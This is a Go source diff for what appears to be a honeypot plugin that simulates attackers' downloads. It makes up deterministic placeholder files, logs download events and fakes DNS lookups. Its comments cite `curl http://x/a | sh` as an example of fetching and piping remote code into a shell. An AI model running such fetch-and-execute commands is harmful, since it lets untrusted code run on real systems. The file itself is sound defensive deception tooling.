@@ -0,0 +1,251 @@
+package plugin
+
+import (
+	"crypto/sha256"
+	"encoding/binary"
+	"fmt"
+	"log"
+	"math/rand"
+	"net"
+	"net/url"
+	"path"
+	"slices"
+	"strings"
+	"unicode/utf8"
+)
+
+// fetchDownload returns the contents of a download and whether they were
+// actually fetched. When the fetcher doesn't have them, a placeholder is
+// returned instead.
+func fetchDownload(s *Session, req *DownloadRequest) ([]byte, bool) {
+	if s.Manager != nil && s.Manager.Fetcher != nil {
+		data, err := s.Manager.Fetcher.Fetch(req)
+
+		if err == nil {
+			return data, true
+		} else if err != ErrNotFetched {
+			log.Println("Unable to fetch", req.URL, err)
+		}
+	}
+
+	return placeholderPayload(req.URL), false
+}
+
+// terminalPayload returns what a download that's written to the terminal
+// outputs. A made up binary is left out, since piping it into a shell (e.g.
+// `curl http://x/a | sh`) would only print syntax errors, which gives away
+// that it isn't the real payload.
+func terminalPayload(data []byte, fetched bool) string {
+	if !fetched && !utf8.Valid(data) {
+		return ""
+	}
+
+	return string(data)
+}
+
+// placeholderScripts are the interpreters of the scripts that a placeholder
+// is made up as, by the extension of the URL, and placeholderTexts are the
+// extensions of the files that are made up as text.
+var (
+	placeholderScripts = map[string]string{
+		".sh":   "/bin/sh",
+		".bash": "/bin/bash",
+		".py":   "/usr/bin/env python3",
+		".pl":   "/usr/bin/perl",
+	}
+	placeholderTexts = []string{".txt", ".conf", ".cfg", ".ini", ".json", ".xml", ".html", ".htm", ".csv", ".log"}
+)
+
+// placeholderPayload makes up the contents of a download that wasn't fetched.
+// Both the size and the bytes are derived from the URL, so that downloading
+// the same URL twice results in the same file. Scripts and text files are
+// made up as lines of text, so that e.g. `curl http://x/a.sh | sh` runs
+// rather than failing on binary data.
+func placeholderPayload(rawURL string) []byte {
+	sum := sha256.Sum256([]byte(rawURL))
+	r := rand.New(rand.NewSource(int64(binary.BigEndian.Uint64(sum[:8]))))
+	ext := ""
+
+	// The index of a directory is a page of HTML.
+	if u, err := url.Parse(rawURL); err == nil && remoteFileName(u) == "" {
+		ext = ".html"
+	} else if err == nil {
+		ext = strings.ToLower(path.Ext(u.Path))
+	}
+
+	if interpreter, ok := placeholderScripts[ext]; ok {
+		return placeholderLines(r, "#!"+interpreter+"\n", "# ")
+	} else if slices.Contains(placeholderTexts, ext) {
+		return placeholderLines(r, "", "")
+	}
+
+	data := make([]byte, 8<<10+r.Intn(88<<10))
+	r.Read(data)
+
+	return data
+}
+
+// placeholderLines makes up the lines of a script or a text file, which are
+// comments in the script.
+func placeholderLines(r *rand.Rand, header, prefix string) []byte {
+	data := []byte(header)
+	lines := 4 + r.Intn(60)
+	line := make([]byte, 32)
+
+	for i := 0; i < lines; i++ {
+		r.Read(line)
+		data = fmt.Appendf(data, "%s%x\n", prefix, line)
+	}
+
+	return data
+}
+
+// saveDownload writes the contents of a download into the VFS and emits the
+// download event. It returns the error as the C library would describe it.
+func saveDownload(s *Session, req *DownloadRequest, dest string, data []byte, fetched bool) error {
+	source := ArtifactSourceDownload
+
+	if !fetched {
+		source = ArtifactSourcePlaceholder
+	}
+
+	err := s.VFS.WriteFileFrom(dest, string(data), source)
+	emitDownload(s, req, dest, data, fetched)
+
+	if err != nil {
+		return fmt.Errorf("%s", strError(err))
+	}
+
+	return nil
+}
+
+// emitDownload emits the event for a download. The destination is empty when
+// the contents were written to the terminal.
+func emitDownload(s *Session, req *DownloadRequest, dest string, data []byte, fetched bool) {
+	if dest != "" {
+		dest = s.VFS.userPath(s.VFS.AbsPath(dest))
+	}
+
+	var fetchedData []byte
+
+	if fetched {
+		fetchedData = data
+	}
+
+	s.Emit(&DownloadEvent{
+		Command: req.Command,
+		URL:     req.URL,
+		Method:  req.Method,
+		Headers: req.Headers,
+		Body:    req.Body,
+		Path:    dest,
+		Size:    len(data),
+		Fetched: fetched,
+		Data:    fetchedData,
+	})
+}
+
+// strError converts an error from the VFS into the message that strerror(3)
+// would return for it.
+func strError(err error) string {
+	msg := strings.ToLower(err.Error())
+
+	switch {
+	case strings.Contains(msg, "permission denied"):
+		return "Permission denied"
+	case strings.Contains(msg, "is a directory"):
+		return "Is a directory"
+	case strings.Contains(msg, "not a directory"):
+		return "Not a directory"
+	case strings.Contains(msg, "not found"), strings.Contains(msg, "no such file"):
+		return "No such file or directory"
+	}
+
+	return err.Error()
+}
+
+// parseDownloadURL parses the URL the way the download tools do, which is to
+// assume http when there's no scheme.
+func parseDownloadURL(rawURL, defaultScheme string) (*url.URL, error) {
+	if !strings.Contains(rawURL, "://") {
+		rawURL = defaultScheme + "://" + rawURL
+	}
+
+	u, err := url.Parse(rawURL)
+
+	if err != nil {
+		return nil, err
+	}
+
+	if u.Host == "" {
+		return nil, fmt.Errorf("no host")
+	}
+
+	return u, nil
+}
+
+// remoteFileName returns the name the file in the URL would be saved as, which
+// is empty when the URL is of a directory (e.g. http://host/dir/).
+func remoteFileName(u *url.URL) string {
+	name := path.Base(u.Path)
+
+	if strings.HasSuffix(u.Path, "/") || name == "/" || name == "." {
+		return ""
+	}
+
+	return name
+}
+
+// urlPort returns the port of the URL, or the default port for its scheme.
+func urlPort(u *url.URL) string {
+	if port := u.Port(); port != "" {
+		return port
+	}
+
+	switch u.Scheme {
+	case "https":
+		return "443"
+	case "ftp":
+		return "21"
+	case "tftp":
+		return "69"
+	}
+
+	return "80"
+}
+
+// fakeResolve returns the address that a host name would resolve to. The
+// honeypot doesn't do any lookups, so the address is derived from the name.
+func fakeResolve(host string) string {
+	if ip := net.ParseIP(host); ip != nil {
+		return ip.String()
+	}
+
+	sum := sha256.Sum256([]byte(host))
+
+	return net.IPv4(sum[0]%223+1, sum[1], sum[2], sum[3]%254+1).String()
+}
+
+// humanSize formats a size the way wget and curl do (e.g. 1.2K, 34M).
+func humanSize(size int) string {
+	units := []string{"K", "M", "G"}
+	value := float64(size)
+	unit := ""
+
+	for _, u := range units {
+		if value < 1024 {
+			break
+		}
+
+		value /= 1024
+		unit = u
+	}
+
+	if unit == "" {
+		return fmt.Sprintf("%d", size)
+	} else if value < 10 {
+		return fmt.Sprintf("%.1f%s", value, unit)
+	}
+
+	return fmt.Sprintf("%.0f%s", value, unit)
+}